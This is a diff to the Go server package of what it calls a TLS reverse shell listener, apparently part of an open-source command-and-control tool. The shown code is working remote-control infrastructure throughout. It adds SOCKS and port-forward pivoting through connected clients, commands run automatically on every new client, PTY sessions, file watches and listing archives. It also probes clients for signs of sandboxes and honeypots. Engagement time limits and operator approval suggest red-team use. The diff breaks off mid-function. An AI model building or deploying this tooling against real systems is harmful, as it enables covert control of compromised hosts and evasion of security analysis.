@@ -2,6 +2,8 @@ package server
 
 import (
 	"bufio"
+	"bytes"
+	"context"
 	"crypto/subtle"
 	"crypto/tls"
 	"errors"
@@ -10,12 +12,17 @@ import (
 	"log"
 	"net"
 	"sort"
+	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 
-	"github.com/frjcomp/gots/pkg/compression"
+	"github.com/frjcomp/gots/pkg/config"
+	"github.com/frjcomp/gots/pkg/geoip"
+	"github.com/frjcomp/gots/pkg/pcap"
 	"github.com/frjcomp/gots/pkg/protocol"
+	"github.com/frjcomp/gots/pkg/replay"
 )
 
 // Listener represents a TLS reverse shell listener server that accepts client connections,
@@ -32,8 +39,61 @@ type Listener struct {
 	clientPtyData     map[string]chan []byte // PTY data channels
 	clientIdentifiers map[string]string      // Short client-provided identifiers
 	clientMetadata    map[string]ClientMetadata
-	forwardManager    *ForwardManager // Port forwarding manager
-	socksManager      *SocksManager   // SOCKS5 proxy manager
+	forwardManager    *ForwardManager              // Port forwarding manager
+	socksManager      *SocksManager                // SOCKS5 proxy manager
+	commandTemplates  map[string]map[string]string // Per-OS command templates for helpers
+	profiles          []Profile                    // SNI-routed listener profiles
+	address           string                       // Overrides interface:port, e.g. "unix:///run/gots.sock"
+	unixConnSeq       uint64                       // Numbers Unix socket clients, which have no remote address
+	accepting         atomic.Bool                  // Whether the accept loop is running
+	netListener       net.Listener                 // Set by Start, closed by Shutdown
+	conns             map[net.Conn]struct{}        // Open client connections, for forced shutdown
+	wg                sync.WaitGroup               // Tracks the accept loop and connection goroutines
+	shuttingDown      bool                         // Set by Shutdown; no goroutines are added to wg afterwards
+	warnFunc          func(clientAddr, msg string) // Surfaces stream warnings to the operator
+	scheduler         *Scheduler                   // Orders concurrent operations per client
+	pendingPrompts    map[string]pendingPrompt     // Password prompts awaiting an answer, by client
+	sessionLocks      map[string][]*SessionLock    // Operator soft locks, by client
+	assets            map[string]*Asset            // Hosts by machine ID, with connection history
+	rdns              *reverseResolver             // Cached reverse DNS names of client source IPs
+	listings          *listingCache                // Recent remote directory listings
+	geoip             *geoip.Reader                // Optional GeoIP/ASN databases for client source IPs
+	promptFunc        func(clientAddr, prompt string)
+	watches           map[string]Watch // File watches on clients, by ID
+	nextWatchID       int
+	watchFunc         func(WatchEvent)
+	compression       map[string]*SessionCompression // Compression statistics by client
+	recordDir         string                         // Directory sessions are recorded to, if set
+	errorBudgets      map[string]*errorBudget        // Malformed frames and quarantine, by client
+	requireApproval   bool                           // New clients wait for an operator to approve them
+	approved          map[string]bool                // Approved clients, by address
+	approvedHosts     map[string]bool                // Approved hosts, by machine ID
+	sandboxChecks     bool                           // Probe new clients for signs of a sandbox
+	sandboxHostnames  []string                       // Hostname patterns of sandboxes and honeypots
+	sandboxFlags      map[string][]string            // Why clients look like sandboxes, by client
+	clientHashes      map[string]bool                // SHA-256 of the recorded client builds
+	integrityFlags    map[string]string              // Why clients are not a recorded build, by client
+	engagementEnd     time.Time                      // Clients are terminated from then on, if set
+	engagementTimer   *time.Timer
+	retryIdempotent   bool                      // Query retries idempotent commands once after a timeout
+	staleResponses    map[string]int            // Replies owed to timed-out queries, by client
+	links             map[string]*linkMonitor   // Connection quality, by client
+	scrollbacks       map[string]*PtyScrollback // Recent PTY output, by machine ID or client
+	scrollbackSize    int                       // Bytes of PTY output kept per host
+	scrollbackDir     string                    // Directory scrollback is saved to, if set
+	scrollbackDirty   map[string]bool           // Hosts whose scrollback changed since the last save
+	scrollbackStop    chan struct{}             // Stops the periodic scrollback saves
+	scrollbackSaveMu  sync.Mutex                // Serializes scrollback saves
+	maxResponseSize   int64                     // Largest response accepted from a client; 0 is unlimited
+	envFiles          map[string]string         // Environment file sourced before commands, by machine ID or client
+	linkFunc          func(clientAddr string, q LinkQuality)
+	onConnect         []string                   // Commands run on every new client
+	onConnectRan      map[string]bool            // Clients the on-connect commands ran on
+	listingArchives   map[string]*listingArchive // Collected directory listings, by host
+	spa               *spaGuard                  // Single-packet authorization, if required
+	rekeyInterval     time.Duration              // Clients reconnect for new session keys this often
+	rekeying          map[string]*rekeyedSession // Clients asked to rekey, by old address
+	rekeyFunc         func(from, to string)
 	mutex             sync.Mutex
 }
 
@@ -44,6 +104,44 @@ type ClientMetadata struct {
 	OS         string
 	Hostname   string
 	IP         string
+	Tags       []string
+	ServerName string // SNI sent in the TLS handshake
+	Profile    string // Listener profile selected by ServerName
+	MachineID  string // Stable per-host identifier, the key for Assets
+	ListenerIP string // Listener address the client reached; empty unless over TCP
+	// Capabilities lists the features the client was built with (see
+	// protocol.Cap*). Nil means the client did not say, i.e. it supports all.
+	Capabilities []string
+	// PingInterval is the keepalive interval the client asked for, already
+	// limited to what the listener allows. Zero means the default.
+	PingInterval time.Duration
+	// Codecs lists the transfer codecs the client reads, preferred first;
+	// nil for clients that only read gzip. MaxFrame is the longest line and
+	// MaxTransfer the largest file in bytes the client accepts, zero when
+	// it did not say.
+	Codecs      []string
+	MaxFrame    int
+	MaxTransfer int64
+}
+
+// Supports reports whether the client announced the given capability.
+func (m ClientMetadata) Supports(capability string) bool {
+	if m.Capabilities == nil {
+		return true
+	}
+	for _, c := range m.Capabilities {
+		if c == capability {
+			return true
+		}
+	}
+	return false
+}
+
+// Announces reports whether the client explicitly announced the given
+// capability. Unlike Supports it is false for clients that predate
+// negotiation, which must not be sent frames added since.
+func (m ClientMetadata) Announces(capability string) bool {
+	return m.Capabilities != nil && m.Supports(capability)
 }
 
 // NewListener creates a new reverse shell listener with the given port,
@@ -63,26 +161,134 @@ func NewListener(port, networkInterface string, tlsConfig *tls.Config, sharedSec
 		clientMetadata:    make(map[string]ClientMetadata),
 		forwardManager:    NewForwardManager(),
 		socksManager:      NewSocksManager(),
+		commandTemplates:  config.DefaultCommandTemplates(),
+		conns:             make(map[net.Conn]struct{}),
+		scheduler:         NewScheduler(config.DefaultMaxParallelOps),
+		pendingPrompts:    make(map[string]pendingPrompt),
+		listings:          newListingCache(),
+		scrollbackSize:    config.DefaultPtyScrollback,
+		maxResponseSize:   config.DefaultMaxResponseSize,
+		sessionLocks:      make(map[string][]*SessionLock),
+		assets:            make(map[string]*Asset),
+		rdns:              newReverseResolver(),
 	}
 }
 
 // Start begins listening for client connections on the configured port and interface.
 // It returns the underlying net.Listener and starts accepting connections in a background goroutine.
 func (l *Listener) Start() (net.Listener, error) {
-	address := fmt.Sprintf("%s:%s", l.networkInterface, l.port)
+	address := l.address
+	if address == "" {
+		address = fmt.Sprintf("%s:%s", l.networkInterface, l.port)
+	}
 	log.Printf("Starting TLS listener on %s", address)
 
-	listener, err := tls.Listen("tcp", address, l.tlsConfig)
+	listener, err := ListenTLS(address, l.tlsConfig)
 	if err != nil {
 		return nil, fmt.Errorf("failed to create TLS listener: %w", err)
 	}
 
-	go l.acceptConnections(listener)
+	l.mutex.Lock()
+	if l.shuttingDown {
+		l.mutex.Unlock()
+		listener.Close()
+		return nil, errors.New("listener is shut down")
+	}
+	l.netListener = listener
+	l.wg.Add(1)
+	l.mutex.Unlock()
+	l.accepting.Store(true)
+	go func() {
+		defer l.wg.Done()
+		l.acceptConnections(listener)
+	}()
 	return listener, nil
 }
 
+// Serve accepts client connections from ln, which the caller has set up,
+// until ln is closed. Unlike Start it adds no TLS, so it suits listeners
+// that are encrypted already or in-memory listeners in tests. It returns
+// right away once Shutdown has been called.
+func (l *Listener) Serve(ln net.Listener) {
+	l.mutex.Lock()
+	if l.shuttingDown {
+		l.mutex.Unlock()
+		return
+	}
+	l.netListener = ln
+	l.wg.Add(1)
+	l.mutex.Unlock()
+	defer l.wg.Done()
+	l.accepting.Store(true)
+	l.acceptConnections(ln)
+}
+
+// Shutdown stops accepting connections, tells connected clients to
+// disconnect, rejects new scheduled operations, stops all port forwards and SOCKS proxies, and waits for
+// connection goroutines to finish. If ctx expires first, remaining
+// connections are closed forcibly and ctx's error is returned. Either way
+// the PTY scrollback is saved last, if a scrollback directory is set.
+func (l *Listener) Shutdown(ctx context.Context) error {
+	l.mutex.Lock()
+	l.shuttingDown = true
+	if l.scrollbackStop != nil {
+		close(l.scrollbackStop)
+		l.scrollbackStop = nil
+	}
+	if l.netListener != nil {
+		_ = l.netListener.Close()
+	}
+	if l.spa != nil {
+		_ = l.spa.conn.Close()
+	}
+	// Clients treat "exit" like a closed connection and go back to their
+	// reconnect loop. Sending under the mutex is safe because handleClient
+	// removes its channel from the map before closing it.
+	for _, cmdChan := range l.clientConnections {
+		select {
+		case cmdChan <- protocol.CmdExit:
+		default:
+		}
+	}
+	if l.engagementTimer != nil {
+		l.engagementTimer.Stop()
+	}
+	l.mutex.Unlock()
+
+	l.scheduler.Close()
+	l.forwardManager.StopAll()
+	l.socksManager.StopAll()
+	// Runs once the connections are done, so it saves their last output
+	defer l.saveScrollback()
+
+	done := make(chan struct{})
+	go func() {
+		l.wg.Wait()
+		close(done)
+	}()
+
+	select {
+	case <-done:
+		return nil
+	case <-ctx.Done():
+		l.mutex.Lock()
+		for conn := range l.conns {
+			_ = conn.Close()
+		}
+		l.mutex.Unlock()
+		<-done
+		return ctx.Err()
+	}
+}
+
+// IsAccepting reports whether the listener is accepting client connections.
+func (l *Listener) IsAccepting() bool {
+	return l.accepting.Load()
+}
+
 // acceptConnections accepts incoming client connections
 func (l *Listener) acceptConnections(listener net.Listener) {
+	defer l.accepting.Store(false)
 	for {
 		conn, err := listener.Accept()
 		if err != nil {
@@ -93,14 +299,75 @@ func (l *Listener) acceptConnections(listener net.Listener) {
 			log.Printf("Error accepting connection: %v", err)
 			continue
 		}
-		go l.handleClient(conn)
+		if !l.spaAdmits(conn) {
+			conn.Close()
+			continue
+		}
+		l.mutex.Lock()
+		recordDir := l.recordDir
+		l.mutex.Unlock()
+		if recordDir != "" {
+			if recorded, err := replay.RecordToDir(conn, replay.FromListener, recordDir); err != nil {
+				log.Printf("Warning: not recording %s: %v", conn.RemoteAddr(), err)
+			} else {
+				conn = recorded
+			}
+		}
+		// Registered under the mutex so Shutdown's wg.Wait cannot start
+		// between the check and wg.Add
+		l.mutex.Lock()
+		if l.shuttingDown {
+			l.mutex.Unlock()
+			conn.Close()
+			return
+		}
+		l.conns[conn] = struct{}{}
+		l.wg.Add(1)
+		l.mutex.Unlock()
+		go func() {
+			defer l.wg.Done()
+			defer func() {
+				l.mutex.Lock()
+				delete(l.conns, conn)
+				l.mutex.Unlock()
+			}()
+			l.handleClient(conn)
+		}()
 	}
 }
 
+// SetRecordDir records every new connection to a file in dir, for replay
+// with package replay. An empty dir stops recording new connections.
+func (l *Listener) SetRecordDir(dir string) {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	l.recordDir = dir
+}
+
+// SetAddress makes Start listen on addr ("host:port", "unix:///path" or
+// "icmp://host") instead of the configured interface and port. Must be
+// called before Start.
+func (l *Listener) SetAddress(addr string) {
+	l.address = addr
+}
+
+// clientAddress returns the key identifying a connection. Unix socket peers
+// are unnamed, so they are numbered instead.
+func (l *Listener) clientAddress(conn net.Conn) string {
+	if addr := conn.RemoteAddr(); addr != nil && addr.Network() != "unix" {
+		return addr.String()
+	}
+	return fmt.Sprintf("unix#%d", atomic.AddUint64(&l.unixConnSeq, 1))
+}
+
 // handleClient handles a single client connection
 func (l *Listener) handleClient(conn net.Conn) {
-	clientAddr := conn.RemoteAddr().String()
-	log.Printf("\n[+] New client connected: %s", clientAddr)
+	clientAddr := l.clientAddress(conn)
+	if geo := l.GeoIP(clientAddr); !geo.Empty() {
+		log.Printf("\n[+] New client connected: %s (%s)", clientAddr, geo)
+	} else {
+		log.Printf("\n[+] New client connected: %s", clientAddr)
+	}
 	defer conn.Close()
 
 	reader := bufio.NewReaderSize(conn, protocol.BufferSize1MB)
@@ -142,15 +409,25 @@ func (l *Listener) handleClient(conn net.Conn) {
 		log.Printf("[+] Client %s authenticated successfully", clientAddr)
 	}
 
+	if l.EngagementOver() {
+		log.Printf("[-] Engagement is over, terminating new client %s", clientAddr)
+		writer.WriteString(protocol.CmdTerminate + "\n")
+		writer.Flush()
+		return
+	}
+
 	cmdChan := make(chan string, 10)
 	respChan := make(chan string, 10)
 	pausePing := make(chan bool, 1)
+	pingInterval := make(chan time.Duration, 1) // Interval requested in IDENT
 
 	l.mutex.Lock()
 	l.clientConnections[clientAddr] = cmdChan
 	l.clientResponses[clientAddr] = respChan
 	l.clientPausePing[clientAddr] = pausePing
 	l.mutex.Unlock()
+	l.ReverseDNS(clientAddr) // Start the lookup so ls has the name
+	link := l.newLinkMonitor(clientAddr)
 
 	defer func() {
 		l.mutex.Lock()
@@ -158,7 +435,21 @@ func (l *Listener) handleClient(conn net.Conn) {
 		delete(l.clientResponses, clientAddr)
 		delete(l.clientPausePing, clientAddr)
 		delete(l.clientIdentifiers, clientAddr)
+		l.rekeyDisconnectedLocked(clientAddr)
+		l.recordAssetDisconnect(clientAddr, l.clientMetadata[clientAddr])
 		delete(l.clientMetadata, clientAddr)
+		delete(l.pendingPrompts, clientAddr)
+		delete(l.sessionLocks, clientAddr)
+		l.dropClientWatches(clientAddr)
+		delete(l.compression, clientAddr)
+		delete(l.errorBudgets, clientAddr)
+		delete(l.approved, clientAddr)
+		delete(l.sandboxFlags, clientAddr)
+		delete(l.integrityFlags, clientAddr)
+		delete(l.staleResponses, clientAddr)
+		delete(l.links, clientAddr)
+		delete(l.onConnectRan, clientAddr)
+		l.listings.invalidate(clientAddr, "")
 		if ptyDataChan, exists := l.clientPtyData[clientAddr]; exists {
 			close(ptyDataChan)
 			delete(l.clientPtyData, clientAddr)
@@ -178,21 +469,56 @@ func (l *Listener) handleClient(conn net.Conn) {
 	// Track if response reader goroutine has failed
 	readerFailed := make(chan bool, 1)
 
-	// Read responses from client
+	// Read responses from client. The connection goroutine is counted in wg
+	// already, so this Add cannot race with Shutdown's Wait.
+	l.wg.Add(1)
 	go func() {
-		var responseBuffer strings.Builder
+		defer l.wg.Done()
+		l.mutex.Lock()
+		resp := newSpillBuffer(protocol.MaxBufferSize, l.maxResponseSize)
+		l.mutex.Unlock()
+		defer resp.Reset()
+		var control []byte // Current line when it is a protocol frame
+		inControl := false // Current line started with a frame prefix
+		controlLimit := 0  // Longest frame accepted for the current line
+		controlOverflow := false
+		atLineStart := true
+		markerSeen := false
+		var tail []byte // End of the previous fragment, for markers split across reads
 		for {
-			line, err := reader.ReadString('\n')
-
-			// Append what we received, even if the buffer filled before newline
-			responseBuffer.WriteString(line)
+			// ReadSlice returns at most one buffer's worth per call, so a
+			// single huge line arrives as several fragments
+			frag, err := reader.ReadSlice('\n')
+
+			if len(frag) > 0 {
+				link.read(time.Now(), len(frag))
+				if atLineStart && resp.Len() == 0 && isControlFrame(frag) {
+					inControl = true
+					controlLimit = frameLimit(frag)
+				}
+				if inControl {
+					if controlOverflow || len(control)+len(frag) > controlLimit {
+						controlOverflow = true
+					} else {
+						control = append(control, frag...)
+					}
+				} else {
+					if _, werr := resp.Write(frag); werr != nil {
+						l.warn(clientAddr, fmt.Sprintf("failed to buffer response: %v", werr))
+					}
+					window := append(tail, frag...)
+					if bytes.Contains(window, []byte(protocol.EndOfOutputMarker)) {
+						markerSeen = true
+					}
+					if keep := len(protocol.EndOfOutputMarker) - 1; len(window) > keep {
+						window = window[len(window)-keep:]
+					}
+					tail = append(tail[:0], window...)
+				}
+			}
 
-			// If the buffer filled before we hit a newline, keep reading without closing the connection
 			if errors.Is(err, bufio.ErrBufferFull) {
-				if responseBuffer.Len() > protocol.MaxBufferSize {
-					log.Printf("Response from client %s exceeds max buffer size without delimiter; resetting buffer", clientAddr)
-					responseBuffer.Reset()
-				}
+				atLineStart = false
 				continue
 			}
 
@@ -204,145 +530,61 @@ func (l *Listener) handleClient(conn net.Conn) {
 				return
 			}
 
-			// Check for client identifier announcement
-			currentLine := responseBuffer.String()
-			if strings.HasPrefix(currentLine, protocol.CmdIdent+" ") {
-				meta := parseIdentMetadata(currentLine)
-				l.mutex.Lock()
-				l.clientIdentifiers[clientAddr] = meta.Identifier
-				l.clientMetadata[clientAddr] = meta
-				l.mutex.Unlock()
-				log.Printf("[+] Client %s identifier: %s", clientAddr, meta.Identifier)
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check for SOCKS connection ready signal
-			if strings.HasPrefix(currentLine, protocol.CmdSocksOk+" ") {
-				parts := strings.Fields(strings.TrimSpace(currentLine))
-				if len(parts) == 3 {
-					socksID := parts[1]
-					connID := parts[2]
-					l.socksManager.SignalSocksReady(socksID, connID)
-				}
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check for SOCKS data from client (to be written to local conn)
-			if strings.HasPrefix(currentLine, protocol.CmdSocksData+" ") {
-				line := strings.TrimSpace(currentLine)
-				parts := strings.Fields(line)
-				// Expect: SOCKS_DATA <socks_id> <conn_id> <base64_data>
-				if len(parts) >= 4 {
-					socksID := parts[1]
-					connID := parts[2]
-					// Reconstruct encoded data without relying on Fields join
-					prefix := protocol.CmdSocksData + " " + socksID + " " + connID + " "
-					encoded := strings.TrimPrefix(line, prefix)
-					// Write decoded data to the local SOCKS connection
-					if err := l.socksManager.HandleSocksData(socksID, connID, encoded); err != nil {
-						log.Printf("[-] SOCKS %s conn %s handle data error: %v", socksID, connID, err)
-					}
-				}
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check for SOCKS connection close from client
-			if strings.HasPrefix(currentLine, protocol.CmdSocksClose+" ") {
-				parts := strings.Fields(strings.TrimSpace(currentLine))
-				if len(parts) >= 3 {
-					socksID := parts[1]
-					connID := parts[2]
-					l.socksManager.HandleSocksClose(socksID, connID)
-				}
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check for FORWARD_DATA from client (to be written to local conn)
-			if strings.HasPrefix(currentLine, protocol.CmdForwardData+" ") {
-				line := strings.TrimSpace(currentLine)
-				parts := strings.Fields(line)
-				// Expect: FORWARD_DATA <forward_id> <conn_id> <base64_data>
-				if len(parts) >= 4 {
-					forwardID := parts[1]
-					connID := parts[2]
-					// Reconstruct encoded data without relying on Fields join
-					prefix := protocol.CmdForwardData + " " + forwardID + " " + connID + " "
-					encoded := strings.TrimPrefix(line, prefix)
-					// Write decoded data to the local forward connection
-					if err := l.forwardManager.HandleForwardData(forwardID, connID, encoded); err != nil {
-						log.Printf("[-] Forward %s conn %s handle data error: %v", forwardID, connID, err)
+			// A complete line has been read
+			atLineStart = true
+			tail = tail[:0]
+			if inControl {
+				if controlOverflow {
+					l.protocolError(clientAddr, fmt.Sprintf("dropped protocol frame larger than %d bytes", controlLimit))
+				} else {
+					l.handleControlLine(clientAddr, conn, string(control))
+					if bytes.HasPrefix(control, []byte(protocol.CmdIdent+" ")) {
+						if meta, _ := l.GetClientMetadata(clientAddr); meta.PingInterval > 0 {
+							select {
+							case pingInterval <- meta.PingInterval:
+							default:
+							}
+						}
 					}
 				}
-				responseBuffer.Reset()
+				control = control[:0]
+				inControl = false
+				controlOverflow = false
 				continue
 			}
 
-			// Check for FORWARD_STOP from client to close specific forward connection
-			if strings.HasPrefix(currentLine, protocol.CmdForwardStop+" ") {
-				parts := strings.Fields(strings.TrimSpace(currentLine))
-				// Expect: FORWARD_STOP <forward_id> <conn_id>
-				if len(parts) >= 3 {
-					forwardID := parts[1]
-					connID := parts[2]
-					if err := l.forwardManager.HandleForwardStop(forwardID, connID); err != nil {
-						log.Printf("[-] Forward %s conn %s handle stop error: %v", forwardID, connID, err)
-					}
+			// Deliver the response once the end of output marker has been seen
+			if markerSeen {
+				markerSeen = false
+				fullResponse, err := resp.String()
+				var tooLarge *responseTooLargeError
+				if errors.As(err, &tooLarge) {
+					// Fail the command rather than leave its caller waiting
+					l.warn(clientAddr, fmt.Sprintf("dropped response: %v", err))
+					fullResponse, err = fmt.Sprintf("Error: %v\n%s\n", err, protocol.EndOfOutputMarker), nil
+				} else if err != nil {
+					l.warn(clientAddr, fmt.Sprintf("failed to read buffered response: %v", err))
+				} else if resp.Spilled() {
+					l.warn(clientAddr, fmt.Sprintf("large response (%d bytes) was buffered to disk", resp.Len()))
 				}
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check for PTY data
-			if strings.HasPrefix(currentLine, protocol.CmdPtyData+" ") {
-				encoded := strings.TrimPrefix(currentLine, protocol.CmdPtyData+" ")
-				encoded = strings.TrimSuffix(encoded, "\n")
-
-				// Decompress hex PTY data
-				data, err := compression.DecompressHex(encoded)
-				if err != nil {
-					log.Printf("Error decompressing PTY data from %s: %v", clientAddr, err)
-					responseBuffer.Reset()
+				resp.Reset()
+				// The command finished, so any prompt it showed is moot
+				l.clearPrompt(clientAddr)
+				if err != nil || l.dropStaleResponse(clientAddr, fullResponse) {
 					continue
 				}
-
-				l.mutex.Lock()
-				ptyDataChan, exists := l.clientPtyData[clientAddr]
-				l.mutex.Unlock()
-
-				if exists {
-					select {
-					case ptyDataChan <- data:
-					default:
-						log.Printf("Warning: PTY data channel full for client %s", clientAddr)
-					}
+				if isKeepalive(fullResponse) {
+					changed, q := link.pong(time.Now())
+					l.linkChanged(clientAddr, changed, q)
 				}
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check for PTY exit
-			if strings.HasPrefix(currentLine, protocol.CmdPtyExit) {
-				l.ExitPtyMode(clientAddr)
-				responseBuffer.Reset()
-				continue
-			}
-
-			// Check if we've reached the end of output marker anywhere in the buffer
-			if strings.Contains(responseBuffer.String(), protocol.EndOfOutputMarker) {
-				fullResponse := responseBuffer.String()
 				// Non-blocking send to avoid deadlock if response channel is full
 				select {
 				case respChan <- fullResponse:
 					// Successfully sent
 				default:
-					// Channel full, drop this response and log warning
-					log.Printf("Warning: response channel full for client %s, dropping response", clientAddr)
+					// Channel full, drop this response and warn the operator
+					l.warn(clientAddr, "response channel full, dropping response")
 				}
-				responseBuffer.Reset()
 			}
 		}
 	}()
@@ -351,6 +593,8 @@ func (l *Listener) handleClient(conn net.Conn) {
 	pingTicker := time.NewTicker(protocol.PingInterval * time.Second)
 	defer pingTicker.Stop()
 	pingPaused := false
+	connected := time.Now()
+	rekeyRequested := false
 
 	for {
 		select {
@@ -358,7 +602,8 @@ func (l *Listener) handleClient(conn net.Conn) {
 			if !ok {
 				return
 			}
-			fmt.Fprintf(writer, "%s\n", cmd)
+			n, _ := fmt.Fprintf(writer, "%s\n", cmd)
+			link.wrote(n)
 			writer.Flush()
 
 			if cmd == protocol.CmdExit {
@@ -369,16 +614,269 @@ func (l *Listener) handleClient(conn net.Conn) {
 			return
 		case pause := <-pausePing:
 			pingPaused = pause
+		case d := <-pingInterval:
+			pingTicker.Reset(d)
 		case <-pingTicker.C:
 			// Only send PING if not paused (i.e., not waiting for command response)
 			if !pingPaused {
+				changed, q := link.ping(time.Now())
+				l.linkChanged(clientAddr, changed, q)
 				fmt.Fprintf(writer, "%s\n", protocol.CmdPing)
 				writer.Flush()
+				if !rekeyRequested && l.rekeyDue(clientAddr, connected) {
+					rekeyRequested = true
+					log.Printf("[*] Asking client %s to reconnect for new session keys", clientAddr)
+					fmt.Fprintf(writer, "%s\n", protocol.CmdRekey)
+					writer.Flush()
+				}
 			}
 		}
 	}
 }
 
+// controlFramePrefixes are line prefixes the reader handles itself instead
+// of treating them as command output.
+var controlFramePrefixes = []string{
+	protocol.CmdIdent + " ",
+	protocol.CmdSocksOk + " ",
+	protocol.CmdSocksData + " ",
+	protocol.CmdSocksClose + " ",
+	protocol.CmdForwardData + " ",
+	protocol.CmdForwardStop + " ",
+	protocol.CmdPipeConn + " ",
+	protocol.CmdPtyData + " ",
+	protocol.CmdPtyExit,
+	protocol.CmdPrompt + " ",
+	protocol.CmdWatchEvent + " ",
+}
+
+func isControlFrame(frag []byte) bool {
+	for _, prefix := range controlFramePrefixes {
+		if bytes.HasPrefix(frag, []byte(prefix)) {
+			return true
+		}
+	}
+	return false
+}
+
+// tlsState returns the TLS state of conn, looking through wrappers such as
+// session recorders.
+func tlsState(conn net.Conn) (tls.ConnectionState, bool) {
+	for conn != nil {
+		if tlsConn, ok := conn.(*tls.Conn); ok {
+			return tlsConn.ConnectionState(), true
+		}
+		wrapper, ok := conn.(interface{ NetConn() net.Conn })
+		if !ok {
+			break
+		}
+		conn = wrapper.NetConn()
+	}
+	return tls.ConnectionState{}, false
+}
+
+// handleControlLine dispatches a protocol frame received from a client.
+func (l *Listener) handleControlLine(clientAddr string, conn net.Conn, line string) {
+	if _, quarantined := l.Quarantined(clientAddr); quarantined {
+		return
+	}
+	if err := validateFrame(line); err != nil {
+		l.protocolError(clientAddr, "dropped malformed frame: "+err.Error())
+		return
+	}
+
+	// Check for client identifier announcement
+	if strings.HasPrefix(line, protocol.CmdIdent+" ") {
+		meta := parseIdentMetadata(line)
+		if state, ok := tlsState(conn); ok {
+			meta.ServerName = state.ServerName
+			meta.Profile = l.profileName(meta.ServerName)
+		}
+		if conn != nil {
+			if addr, ok := conn.LocalAddr().(*net.TCPAddr); ok {
+				meta.ListenerIP = addr.IP.String()
+			}
+		}
+		l.mutex.Lock()
+		rekeyedFrom := l.resumeRekeyedLocked(clientAddr, &meta)
+		l.clientIdentifiers[clientAddr] = meta.Identifier
+		l.clientMetadata[clientAddr] = meta
+		l.recordAssetConnect(clientAddr, meta)
+		l.mutex.Unlock()
+		log.Printf("[+] Client %s identifier: %s", clientAddr, meta.Identifier)
+		if rekeyedFrom != "" {
+			log.Printf("[+] Client %s resumed session %s with new keys", clientAddr, rekeyedFrom)
+			go l.restoreEnvFile(clientAddr)
+			return
+		}
+		if meta.PingInterval > 0 {
+			log.Printf("[+] Client %s asked for pings every %s", clientAddr, meta.PingInterval)
+		}
+		if l.PendingApproval(clientAddr) {
+			log.Printf("[!] Client %s is pending approval; only SYSINFO is allowed until it is approved", clientAddr)
+		}
+		if primary, dup := l.DuplicateOf(clientAddr); dup {
+			l.warn(clientAddr, fmt.Sprintf("duplicate session of host %s, already connected as %s", meta.MachineID, primary))
+		}
+		go l.checkSandbox(clientAddr, meta)
+		go l.checkIntegrity(clientAddr, meta)
+		go l.runOnConnect(clientAddr)
+		return
+	}
+
+	if strings.HasPrefix(line, protocol.CmdPrompt+" ") {
+		l.handlePromptFrame(clientAddr, line)
+		return
+	}
+
+	if strings.HasPrefix(line, protocol.CmdWatchEvent+" ") {
+		l.handleWatchFrame(clientAddr, line)
+		return
+	}
+
+	// Check for SOCKS connection ready signal
+	if strings.HasPrefix(line, protocol.CmdSocksOk+" ") {
+		parts := strings.Fields(strings.TrimSpace(line))
+		if len(parts) == 3 {
+			socksID := parts[1]
+			connID := parts[2]
+			l.socksManager.SignalSocksReady(socksID, connID)
+		}
+		return
+	}
+
+	// Check for SOCKS data from client (to be written to local conn)
+	if strings.HasPrefix(line, protocol.CmdSocksData+" ") {
+		trimmed := strings.TrimSpace(line)
+		parts := strings.Fields(trimmed)
+		// Expect: SOCKS_DATA <socks_id> <conn_id> <base64_data>
+		if len(parts) >= 4 {
+			socksID := parts[1]
+			connID := parts[2]
+			// Reconstruct encoded data without relying on Fields join
+			prefix := protocol.CmdSocksData + " " + socksID + " " + connID + " "
+			encoded := strings.TrimPrefix(trimmed, prefix)
+			// Write decoded data to the local SOCKS connection
+			if err := l.socksManager.HandleSocksData(socksID, connID, encoded); err != nil {
+				log.Printf("[-] SOCKS %s conn %s handle data error: %v", socksID, connID, err)
+			}
+		}
+		return
+	}
+
+	// Check for SOCKS connection close from client
+	if strings.HasPrefix(line, protocol.CmdSocksClose+" ") {
+		parts := strings.Fields(strings.TrimSpace(line))
+		if len(parts) >= 3 {
+			socksID := parts[1]
+			connID := parts[2]
+			reason := ""
+			if len(parts) == 4 {
+				reason = parts[3]
+			}
+			l.socksManager.HandleSocksClose(socksID, connID, reason)
+		}
+		return
+	}
+
+	// Check for FORWARD_DATA from client (to be written to local conn)
+	if strings.HasPrefix(line, protocol.CmdForwardData+" ") {
+		trimmed := strings.TrimSpace(line)
+		parts := strings.Fields(trimmed)
+		// Expect: FORWARD_DATA <forward_id> <conn_id> <base64_data>
+		if len(parts) >= 4 {
+			forwardID := parts[1]
+			connID := parts[2]
+			// Reconstruct encoded data without relying on Fields join
+			prefix := protocol.CmdForwardData + " " + forwardID + " " + connID + " "
+			encoded := strings.TrimPrefix(trimmed, prefix)
+			// Write decoded data to the local forward connection
+			if err := l.forwardManager.HandleForwardData(forwardID, connID, encoded); err != nil {
+				log.Printf("[-] Forward %s conn %s handle data error: %v", forwardID, connID, err)
+			}
+		}
+		return
+	}
+
+	// Check for FORWARD_STOP from client to close specific forward connection
+	if strings.HasPrefix(line, protocol.CmdForwardStop+" ") {
+		parts := strings.Fields(strings.TrimSpace(line))
+		// Expect: FORWARD_STOP <forward_id> <conn_id>
+		if len(parts) >= 3 {
+			forwardID := parts[1]
+			connID := parts[2]
+			if err := l.forwardManager.HandleForwardStop(forwardID, connID); err != nil {
+				log.Printf("[-] Forward %s conn %s handle stop error: %v", forwardID, connID, err)
+			}
+		}
+		return
+	}
+
+	// Check for PIPE_CONN: a program opened a pipe served by the client
+	if strings.HasPrefix(line, protocol.CmdPipeConn+" ") {
+		parts := strings.Fields(strings.TrimSpace(line))
+		// Expect: PIPE_CONN <forward_id> <conn_id>
+		if len(parts) >= 3 {
+			if err := l.forwardManager.HandlePipeConn(parts[1], parts[2]); err != nil {
+				log.Printf("[-] Forward %s conn %s handle pipe error: %v", parts[1], parts[2], err)
+			}
+		}
+		return
+	}
+
+	// Check for PTY data
+	if strings.HasPrefix(line, protocol.CmdPtyData+" ") {
+		encoded := strings.TrimPrefix(line, protocol.CmdPtyData+" ")
+		encoded = strings.TrimSuffix(encoded, "\n")
+
+		// Decompress hex PTY data
+		data, err := l.decompressFrom(clientAddr, encoded)
+		if err != nil {
+			l.protocolError(clientAddr, fmt.Sprintf("dropped malformed PTY data: %v", err))
